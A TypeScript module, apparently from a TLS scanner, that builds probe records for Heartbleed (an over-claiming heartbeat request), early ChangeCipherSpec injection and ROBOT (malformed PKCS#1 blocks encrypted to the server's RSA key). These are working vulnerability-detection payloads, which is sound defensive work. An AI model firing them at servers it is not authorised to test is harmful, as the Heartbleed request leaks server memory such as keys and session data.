/**
 * The records the named-vulnerability probes send after the server's first flight: a heartbeat
 * request that claims more payload than it carries (Heartbleed), an early ChangeCipherSpec (CCS
 * injection), and a ClientKeyExchange carrying a well-formed or deliberately malformed PKCS#1 v1.5
 * block encrypted to the server's RSA key, then ChangeCipherSpec and a garbage Finished (ROBOT).
 * Pure apart from randomness and RSA encryption; the shapes follow RFC 6520, RFC 5246 and the ROBOT
 * paper's test vectors (described in words there, written here from the RFCs).
 */
import { X509Certificate, constants, publicEncrypt, randomBytes } from 'node:crypto';

function record(type: number, version: number, body: Uint8Array | number[]): Buffer {
  const b = Buffer.from(body);
  return Buffer.concat([Buffer.from([type, version >> 8, version & 0xff, b.length >> 8, b.length & 0xff]), b]);
}

/** Payload we actually send in each heartbeat request. */
export const HEARTBEAT_PAYLOAD = 16;
/** The payload length the over-reading request claims. */
export const HEARTBLEED_CLAIM = 0x4000;

/**
 * Two heartbeat requests in a row. The first claims 16 KiB but carries 16 bytes (and the 16 bytes of
 * padding RFC 6520 requires): a vulnerable server answers it with 16 KiB of its memory; a fixed one must
 * drop it silently. The second is well-formed, so a fixed server's answer (exactly 16 bytes echoed)
 * arrives within a round trip and the verdict does not have to wait for silence.
 */
export function heartbleedRequests(version: number): Buffer {
  const payload = randomBytes(HEARTBEAT_PAYLOAD);
  const padding = randomBytes(16);
  const message = (claim: number) => Buffer.concat([Buffer.from([1, claim >> 8, claim & 0xff]), payload, padding]);
  return Buffer.concat([record(24, version, message(HEARTBLEED_CLAIM)), record(24, version, message(HEARTBEAT_PAYLOAD))]);
}

/** Bytes a heartbeat response may honestly carry after its 3-byte header: our payload and at least 16 bytes of padding, at most what a record holds. */
export function heartbeatOverread(reply: { payloadLength: number; recordLength: number }): number {
  return Math.max(0, reply.payloadLength - HEARTBEAT_PAYLOAD);
}

/** A ChangeCipherSpec record, sent twice: before any key exchange, a fixed server must refuse the first. */
export function earlyChangeCipherSpec(version: number): Buffer {
  return Buffer.concat([record(20, version, [1]), record(20, version, [1])]);
}

/** The ClientKeyExchange variants (the ROBOT paper's five test vectors, in our words). */
export const ROBOT_VARIANTS = ['correct', 'wrong_first_bytes', 'zero_in_padding', 'no_separator', 'wrong_version'] as const;
export type RobotVariant = (typeof ROBOT_VARIANTS)[number];

export interface RsaKey {
  /** Modulus length in bytes. */
  size: number;
  encryptRaw(block: Buffer): Buffer;
}

/** The RSA public key of a DER certificate, or null when it is not RSA or cannot be read. */
export function rsaKeyOf(der: Uint8Array): RsaKey | null {
  try {
    const key = new X509Certificate(Buffer.from(der)).publicKey;
    if (key.asymmetricKeyType !== 'rsa') return null;
    const bits = key.asymmetricKeyDetails?.modulusLength;
    if (!bits || bits < 512 || bits > 16384) return null;
    return { size: Math.ceil(bits / 8), encryptRaw: (block) => publicEncrypt({ key, padding: constants.RSA_NO_PADDING }, block) };
  } catch {
    return null;
  }
}

function nonZero(n: number): Buffer {
  const out = randomBytes(n);
  for (let i = 0; i < n; i++) while (out[i] === 0) out[i] = randomBytes(1)[0]!;
  return out;
}

/** The PKCS#1 v1.5 block of one variant: 00 02 <non-zero padding> 00 <client version> <46 random bytes>, altered as named. */
export function robotBlock(variant: RobotVariant, size: number, clientVersion: number): Buffer {
  const secret = Buffer.concat([Buffer.from([clientVersion >> 8, clientVersion & 0xff]), randomBytes(46)]);
  const block = Buffer.concat([Buffer.from([0x00, 0x02]), nonZero(size - 3 - secret.length), Buffer.from([0x00]), secret]);
  const sep = size - secret.length - 1;
  switch (variant) {
    case 'correct':
      break;
    case 'wrong_first_bytes':
      block[0] = 0x41;
      block[1] = 0x17;
      break;
    case 'zero_in_padding':
      block[10] = 0x00; // a 0x00 just after the eight mandatory padding bytes: valid PKCS#1, but the secret comes out the wrong length
      break;
    case 'no_separator':
      block[sep] = 0x01; // no 0x00 anywhere after the padding
      break;
    case 'wrong_version':
      block[sep + 1] = 0x02;
      block[sep + 2] = 0x02;
      break;
  }
  return block;
}

/**
 * ClientKeyExchange with the encrypted block, then ChangeCipherSpec and a Finished the server cannot
 * verify (random bytes): every variant fails in the end, and only how the server fails may differ.
 */
export function robotFlight(variant: RobotVariant, key: RsaKey, version: number): Buffer {
  const encrypted = key.encryptRaw(robotBlock(variant, key.size, version));
  const cke = Buffer.concat([
    Buffer.from([16, 0, (encrypted.length + 2) >> 8, (encrypted.length + 2) & 0xff, encrypted.length >> 8, encrypted.length & 0xff]),
    encrypted,
  ]);
  cke[1] = (encrypted.length + 2) >> 16;
  return Buffer.concat([record(22, version, cke), record(20, version, [1]), record(22, version, randomBytes(64))]);
}
